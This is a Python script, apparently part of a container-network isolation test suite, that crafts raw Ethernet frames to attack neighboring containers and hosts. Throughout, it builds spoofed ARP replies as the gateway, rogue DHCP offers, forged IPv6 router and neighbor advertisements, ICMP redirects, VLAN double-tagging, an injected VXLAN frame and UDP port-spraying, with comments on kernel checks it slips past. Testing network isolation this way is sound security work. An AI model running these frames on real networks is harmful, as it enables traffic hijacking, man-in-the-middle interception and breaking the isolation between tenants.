"""Attacks of a container on a network of several hosts.

tunnel.py send FACTS SENT  sends frames that must not reach a container of another host, each with
                           a mark, and writes a line per mark to SENT; the first frame must arrive
tunnel.py ra FACTS         sends router advertisements in a VLAN tag
tunnel.py arp FACTS        sends ARP replies with the gateway's address in a VLAN tag
tunnel.py group GROUP      sends UDP packets with a VXLAN packet of VNI 100 to this host, in frames
                           for a group; the inner frame is from 02:00:00:00:00:77
tunnel.py shadow HOST PORT SECONDS FIRST LAST
                           sends packets from PORT to all these ports of a host, and then prints
                           the number of packets from there
tunnel.py query HOST PORT COUNT
                           sends packets from COUNT ports, from 20000

FACTS is a JSON file with the addresses of `me`, the sender, and `victim`, as attacks.py has them.
"""
import json
import socket
import struct
import sys
import time

from attacks import (
    BROADCAST, ETH_ARP, ETH_IP, ETH_IP6, ETH_QINQ, ETH_VLAN, NOBODY, arp, dhcp, ether, icmp6, ip,
    ipv4, ipv6, link_layer, mac, multicast, solicited, tagged, udp, udp6)

GATEWAY, GATEWAY6, LINK = "10.88.0.1", "fd42:88:88:88::1", "fe80::1266:6aff:fe00:0"
GATEWAY_MAC = mac("10:66:6a:00:00:00")


def frames(me, victim):
    m, v = mac(me["mac"]), mac(victim["mac"])
    plain = {}

    def advertisement(about, before=b""):
        def body(k):
            content = bytes([0xA0, 0, 0, 0]) + ip(about) + link_layer(2, m) + b"\xfd\2" + bytes(6)
            packet = icmp6(me["link"], "ff02::1", 136, content + k)
            return ipv6(me["link"], "ff02::1", 60 if before else 58, before + packet)
        return body

    def router(k):
        content = b"\x40\x08\7\x08" + bytes(8) + link_layer(1, m) + b"\xfd\2" + bytes(6) + k
        return ipv6(me["link"], "ff02::1", 58, icmp6(me["link"], "ff02::1", 134, content))

    def solicitation(k):
        content = bytes(4) + ip(victim["link"]) + link_layer(1, m) + b"\xfd\2" + bytes(6) + k
        group = solicited(victim["link"])
        return ipv6(LINK, group, 58, icmp6(LINK, group, 135, content))
    all6 = multicast("ff02::1")
    plain["ARP reply as the gateway"] = (
        v, ETH_ARP, lambda k: arp(2, m, GATEWAY, v, victim["ip4"]) + k)
    plain["ARP reply as the gateway in an IEEE 802 network"] = (
        v, ETH_ARP, lambda k: arp(2, m, GATEWAY, v, victim["ip4"], hardware=6) + k)
    plain["ARP request for the gateway"] = (
        BROADCAST, ETH_ARP, lambda k: arp(1, m, me["ip4"], NOBODY, GATEWAY) + k)
    plain["IPv4 as the gateway"] = (
        v, ETH_IP, lambda k: ipv4(GATEWAY, victim["ip4"], 17, udp(53, 9, k)))
    plain["fragment of IPv4 as the gateway"] = (
        v, ETH_IP, lambda k: ipv4(GATEWAY, victim["ip4"], 17, k + bytes(16), fragment=100))
    plain["ICMP redirect"] = v, ETH_IP, lambda k: ipv4(GATEWAY, victim["ip4"], 1, b"\5\1\0\0" + k)
    plain["IPv4 to the gateway of the other host"] = (
        BROADCAST, ETH_IP, lambda k: ipv4(me["ip4"], GATEWAY, 17, udp(4000, 53, k)))
    plain["DHCP request"] = BROADCAST, ETH_IP, lambda k: ipv4(
        "0.0.0.0", "255.255.255.255", 17, udp(68, 67, dhcp(m, 1) + k))
    offer = lambda k: udp(67, 68, dhcp(v, 2, reply=True, yours=victim["ip4"]) + k)
    plain["DHCP offer"] = v, ETH_IP, lambda k: ipv4(me["ip4"], victim["ip4"], 17, offer(k))
    plain["DHCP offer with options"] = (
        v, ETH_IP, lambda k: ipv4(me["ip4"], victim["ip4"], 17, offer(k), options=b"\1\1\1\0"))
    plain["fragment of a DHCP offer"] = (
        v, ETH_IP, lambda k: ipv4(me["ip4"], victim["ip4"], 17, offer(k), fragment=0x2000))
    wrong = lambda k, length: (
        lambda p: p[:2] + struct.pack("!H", length) + p[4:])(
            ipv4(me["ip4"], victim["ip4"], 17, offer(k)))
    plain["DHCP offer with a length of 20"] = v, ETH_IP, lambda k: wrong(k, 20)
    plain["DHCP offer with a length of 2000"] = v, ETH_IP, lambda k: wrong(k, 2000)
    plain["router advertisement"] = all6, ETH_IP6, router
    plain["advertisement of the gateway"] = all6, ETH_IP6, advertisement(GATEWAY6)
    plain["advertisement of the router"] = all6, ETH_IP6, advertisement(LINK)
    plain["advertisement behind options"] = (
        all6, ETH_IP6, advertisement(GATEWAY6, b"\x3a\0\1\4\0\0\0\0"))
    plain["solicitation as the router"] = (
        multicast(solicited(victim["link"])), ETH_IP6, solicitation)
    plain["IPv6 to the router of the other host"] = all6, ETH_IP6, lambda k: ipv6(
        me["link"], LINK, 17, udp6(me["link"], LINK, (4000, 53), k))
    plain["DHCPv6 reply"] = v, ETH_IP6, lambda k: ipv6(
        me["link"], victim["link"], 17, udp6(me["link"], victim["link"], (547, 546), k))
    plain["a packet to the gateway's hardware address"] = GATEWAY_MAC, ETH_IP, lambda k: ipv4(
        me["ip4"], victim["ip4"], 17, udp(4000, 9, k))
    yield "own packet", lambda k: ether(
        v, m, ETH_IP, ipv4(me["ip4"], victim["ip4"], 17, udp(4000, 9, k)))
    yield "a packet from the gateway's hardware address", lambda k: ether(
        v, GATEWAY_MAC, ETH_IP, ipv4(me["ip4"], victim["ip4"], 17, udp(4000, 9, k)))
    for name, (target, kind, body) in plain.items():
        yield name, lambda k, target=target, kind=kind, body=body: ether(target, m, kind, body(k))
        for label, outer in (("802.1Q", ETH_VLAN), ("802.1ad", ETH_QINQ)):
            for number in (0, 5):
                yield f"{name} in {label} {number}", (
                    lambda k, target=target, kind=kind, body=body, outer=outer, number=number:
                    ether(target, m, outer, tagged(number, kind, body(k))))
            yield f"{name} in two tags of {label}", (
                lambda k, target=target, kind=kind, body=body, outer=outer: ether(
                    target, m, outer, tagged(0, ETH_VLAN, tagged(0, kind, body(k)))))


def port():
    sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    sender.bind(("eth0", 0))
    return sender


def facts(file):
    with open(file, encoding="utf-8") as text:
        parties = json.load(text)
    return parties["me"], parties["victim"]


def send(file, sent):
    sender = port()
    with open(sent, "w", encoding="utf-8") as output:
        for number, (name, frame) in enumerate(frames(*facts(file))):
            mark = "MK%06d" % number
            output.write(f"{mark} {name}\n")
            sender.send(frame(mark.encode()).ljust(60, b"\0"))
            time.sleep(0.005)


def repeat(file, name):
    found = dict(frames(*facts(file)))[name](b"MK999999")
    sender = port()
    # For a second, the kernel keeps a neighbor that it has just confirmed.
    for _ in range(5):
        sender.send(found)
        time.sleep(0.4)


def group(target):
    sender = port()
    own = sender.getsockname()[4]
    inner = ether(BROADCAST, mac("02:00:00:00:00:77"), ETH_ARP, arp(
        1, mac("02:00:00:00:00:77"), "10.88.250.1", NOBODY, "10.88.250.2"))
    forged = udp(5555, 4789, struct.pack("!II", 0x08000000, 100 << 8) + inner)
    for _ in range(5):
        # The kernel does not compare the source of this broadcast with the routes.
        sender.send(ether(mac(target), own, ETH_IP, ipv4(
            "0.0.0.0", "255.255.255.255", 17, forged)))
        time.sleep(0.02)


def shadow(host, number, seconds, first, last):
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.bind(("", int(number)))
    for target in range(int(first), int(last) + 1):
        try:
            client.sendto(b"x", (host, target))
        except OSError:
            pass
    print("ready", flush=True)
    client.settimeout(0.2)
    count, end = 0, time.monotonic() + float(seconds)
    while time.monotonic() < end:
        try:
            data, sender = client.recvfrom(2000)
        except OSError:  # Also what ICMP reports.
            continue
        count += 1
        client.sendto(data, sender)
    print(count)


def query(host, number, count):
    for source in range(20000, 20000 + int(count)):
        client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        client.bind(("", source))
        client.sendto(b"query", (host, int(number)))


if __name__ == "__main__":
    commands = {
        "send": send, "group": group, "shadow": shadow, "query": query,
        "arp": lambda file: repeat(file, "ARP reply as the gateway in 802.1Q 0"),
        "ra": lambda file: repeat(file, "router advertisement in 802.1Q 0"),
    }
    commands[sys.argv[1]](*sys.argv[2:])
